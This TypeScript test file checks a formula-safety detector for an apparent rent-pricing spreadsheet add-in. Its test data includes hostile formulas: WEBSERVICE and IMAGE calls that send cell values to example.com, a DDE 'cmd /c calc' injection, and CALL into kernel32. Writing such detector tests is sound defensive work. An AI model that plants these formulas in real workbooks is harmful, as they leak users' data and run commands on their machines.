import { isPlainCalculation, reachesOutside } from "../../src/host/formula-safety";

test.each([
  '=RENT.PRICE(A2,"studio")',
  "=12*RENT.OBSERVED('Rent roll'!$A$2:$B$9,1.5E3)",
  '=IFERROR(_xldudf_RENT_COMPS(A2#,4)&"=WEBSERVICE(""x"")",#N/A)',
  "=_xlfn._xlws.FILTER(RENT.COMPS(A2,4),{TRUE,FALSE})",
  "=-rent.price(Deal!A:A)%",
  "=RENT.PROPERTY(#REF!,1)",
])("%s calculates alone", (formula) => {
  expect(isPlainCalculation(formula)).toBe(true);
  expect(reachesOutside(formula)).toBe(false);
});

test.each([
  '=WEBSERVICE("https://example.com/?"&RENT.PRICE(A2))',
  '=RENT.PRICE(_xlfn.WEBSERVICE("https://example.com"))',
  '=HYPERLINK("https://example.com",RENT.PRICE(A2))',
  "=RENT.PRICE(A2)+cmd|'/c calc'!A0",
  "=RENT.PRICE('[Book2.xlsx]Sheet1'!A2)",
  "=RENT.PRICE([Book2.xlsx]Sheet1!A2)",
  "=RENT.PRICE('C:\\files\\[Book2.xlsx]Sheet1'!A2)",
  "=RENT.PRICE(Book2.xlsx!Rents)",
  '=RENT.PRICE(CALL("kernel32","Beep","JJJ",A2,A3))',
  "=RENT.PRICE(REGISTER.ID(A2,A3))",
  '=IMAGE("https://example.com/"&RENT.PRICE(A2))',
])("%s reaches outside", (formula) => {
  expect(isPlainCalculation(formula)).toBe(false);
  expect(reachesOutside(formula)).toBe(true);
});

test.each([
  "=SUM(A1:A9)",
  "=RENT.PRICE(Subject)",
  "=RENT.PRICE(Table1[address])",
  "=RENT.PRICE(INDIRECT(A2))",
  "=LAMBDA(x,RENT.PRICE(x))(A2)",
  "=RENT.PRICE(OTHER.ADDIN(A2))",
  'RENT.PRICE("a")',
  '="RENT.PRICE(A2)"',
])("%s is not written without a question, and may be the person's own", (formula) => {
  expect(isPlainCalculation(formula)).toBe(false);
  expect(reachesOutside(formula)).toBe(false);
});

test.each([1, true, null, "WEBSERVICE(A1)", "'=WEBSERVICE(A1)", "a|b"])("%s is no formula", (value) =>
  expect(reachesOutside(value)).toBe(false),
);

test("a formula that is longer than Excel's are is not looked at", () => {
  const sum = (terms: number): string => `=RENT.PRICE(A2)${"+1".repeat(terms)}`;
  expect(isPlainCalculation(sum(4_000))).toBe(true);
  for (const part of ["+1", "(", "'", '"', "[", "#A", " "])
    expect(isPlainCalculation(`=RENT.PRICE(A2)${part.repeat(1_000_000)}`)).toBe(false);
});
